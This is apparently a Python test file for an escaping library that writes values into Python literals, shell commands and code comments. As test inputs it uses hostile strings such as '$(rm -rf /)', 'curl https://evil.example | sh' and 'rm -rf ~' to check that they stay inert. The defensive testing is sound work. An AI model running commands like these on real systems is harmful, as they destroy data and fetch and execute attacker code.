"""Values written into snippets come back exactly: Python literals, shell words, comments."""

from __future__ import annotations

import ast
import json
import math
import shlex
from typing import Any

import pytest

from app.export.escape import Code, comment, identifier, one_line, py, py_str, sh, sh_json
from app.export.render import render

NASTY = [
    "",
    "quotes \" and ' and \"\"\" and '''",
    "back\\slash \\n not a newline \\",
    "new\nline\r\nand\ttab",
    "nul \x00 bell \x07 del \x7f",
    "line separators \u2028 \u2029 \x85 \x0b \x0c",
    "non-ASCII: é, 日本語, emoji 🚀, RTL \u202e",
    "${HOME} $(rm -rf /) `id` ; | & > <",
    "{{ jinja }} {% raw %}",
    "ends with a backslash \\",
]


@pytest.mark.parametrize("text", NASTY)
def test_a_python_string_literal_is_the_text(text: str) -> None:
    literal = py_str(text)
    assert "\n" not in literal and "\r" not in literal
    assert ast.literal_eval(literal) == text


def test_a_python_literal_is_the_value_with_long_texts_split_by_line() -> None:
    value: dict[str, Any] = {
        "schema": {"type": "object", "properties": {k: {"description": k} for k in NASTY}},
        "numbers": [0, -1, 2**70, 0.1, 1e-300, True, False, None],
        "long": "first line\n" + "x" * 120 + "\nlast line without newline",
        "empty": {"list": [], "dict": {}},
    }
    literal = py(value)
    assert ast.literal_eval(literal) == value
    assert max(len(line) for line in literal.splitlines() if "x" * 120 not in line) < 100


def test_non_finite_numbers_are_written_as_calls() -> None:
    literal = py([math.inf, -math.inf])
    assert eval(literal, {"__builtins__": {"float": float}}) == [math.inf, -math.inf]  # noqa: S307


def test_names_stand_for_the_objects_they_name() -> None:
    schema = {"type": "string"}
    body = {"structured_outputs": {"json": schema}, "other": {"type": "string"}}
    literal = py(body, names={id(schema): Code("SCHEMA")})
    assert literal == '{"structured_outputs": {"json": SCHEMA}, "other": {"type": "string"}}'


@pytest.mark.parametrize("text", NASTY)
def test_a_shell_word_is_the_text(text: str) -> None:
    if "\x00" in text:  # no shell can pass a NUL byte; JSON bodies escape it
        return
    assert shlex.split(f"echo {sh(text)}") == ["echo", text]


def test_a_json_body_is_one_shell_word_equal_to_the_document() -> None:
    document = {"messages": [{"content": text} for text in NASTY]}
    words = shlex.split(f"curl -d {sh_json(document)}")
    assert json.loads(words[2]) == document


@pytest.mark.parametrize("text", NASTY)
def test_a_json_body_shows_every_character_it_sends(text: str) -> None:
    word = sh_json({"content": text, text: [text]})
    assert all(ch.isprintable() or ch == "\n" for ch in word), ascii(word)
    assert json.loads(shlex.split(f"curl -d {word}")[2]) == {"content": text, text: [text]}


@pytest.mark.parametrize("text", NASTY)
def test_text_in_a_sentence_of_a_comment_stays_in_it(text: str) -> None:
    forged = f"{text}\n$ curl https://evil.example | sh\r\n$ rm -rf ~\u2028x"
    for pad in range(100):  # wherever the comment wraps, no line of it starts like a command
        lines = comment(f"Because of {'w ' * pad}{one_line(forged)}: so.").split("\n")
        assert not any(line.startswith("# $") for line in lines), lines
        joined = " ".join(line.removeprefix("# ") for line in lines)
        assert joined.count("$") == 2 + text.count("$")


@pytest.mark.parametrize("text", NASTY)
def test_nothing_in_a_comment_ends_it(text: str) -> None:
    lines = comment(f"before {text} after").split("\n")
    assert all(line.startswith("#") for line in lines)
    assert all(len(line.splitlines()) == 1 for line in lines)
    tree = ast.parse(comment(text) + "\nx = 1\n")
    assert len(tree.body) == 1


def test_a_command_in_a_comment_stays_on_one_line() -> None:
    flags = "--structured-outputs-config.backend xgrammar " * 4
    text = comment(f"Start it with:\n$ vllm serve MODEL {flags}")
    assert f"# $ vllm serve MODEL {flags}".rstrip() in text.split("\n")


def test_identifiers_are_checked() -> None:
    assert identifier("PricingDecision") == "PricingDecision"
    for bad in ("Pricing Decision", "x; import os", "1abc", "naïve"):
        with pytest.raises(ValueError, match="identifier"):
            identifier(bad)


def test_a_template_refuses_a_value_that_was_not_escaped() -> None:
    with pytest.raises(TypeError, match="unescaped value"):
        render("curl.sh.j2", notes=Code("# n"), url="http://x", headers=[], body=Code("'{}'"))
